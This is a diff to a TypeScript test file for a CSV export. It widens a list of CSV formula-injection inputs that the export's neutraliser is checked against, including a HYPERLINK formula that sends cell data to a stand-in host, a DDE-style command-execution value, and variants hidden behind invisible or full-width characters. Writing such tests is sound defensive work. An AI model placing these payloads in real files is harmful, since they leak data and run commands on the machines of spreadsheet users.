@@ -22,7 +22,21 @@ function readCsv(text: string): string[][] {
   return rows;
 }
 
-const FORMULAS = ['=HYPERLINK("https://boese.example/?d="&A1;"Klick")', '+49 30 1234', '-2+3+cmd|\' /C calc\'!A0', '@SUMME(A1:A9)', '\t=1+1', '\r=1+1'];
+const FORMULAS = [
+  '=HYPERLINK("https://boese.example/?d="&A1;"Klick")',
+  '+49 30 1234',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUMME(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  // Spreadsheets skip leading spaces, also no-break and zero-width ones, and read full-width signs.
+  '   =1+1',
+  '\u00A0=HYPERLINK("https://boese.example")',
+  '\u200B=1+1',
+  '\uFEFF@SUMME(A1)',
+  '＝HYPERLINK("https://boese.example")',
+  '＋1',
+];
 
 describe('CSV for spreadsheet users', () => {
   it('starts with a byte order mark and a German header row, separated by semicolons', () => {
@@ -56,6 +70,12 @@ describe('CSV for spreadsheet users', () => {
   it('leaves ordinary text alone, including text that merely contains a formula character', () => {
     expect(neutraliseFormula('Betrag = Kaltmiete + Nebenkosten')).toBe('Betrag = Kaltmiete + Nebenkosten');
     expect(neutraliseFormula('')).toBe('');
+  });
+
+  it('shows invisible direction controls as visible tokens, so a cell never reads differently from its data', () => {
+    const problem = 'Betrag \u202E0001\u202C Euro';
+    const [header, row] = readCsv(suggestionsToCsv([{ suggestion: makeSuggestion({ problem }) }]).slice(1));
+    expect(row![header!.indexOf('Problem')]).toBe('Betrag [U+202E]0001[U+202C] Euro');
   });
 
   it('keeps quotes, semicolons and line breaks inside their cell', () => {
